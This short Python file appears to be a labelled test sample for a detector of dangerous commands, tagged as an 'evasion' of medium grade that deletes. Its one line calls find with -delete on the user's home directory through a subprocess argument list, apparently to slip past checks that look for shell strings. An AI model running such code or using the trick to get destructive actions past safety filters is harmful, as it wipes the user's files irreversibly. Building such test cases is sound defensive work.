# evasion: find -delete on the home directory, through a list of arguments
# grade: medium; does: delete
import os
import subprocess

subprocess.run(["find", os.path.expanduser("~"), "-mindepth", "1", "-delete"], check=False)
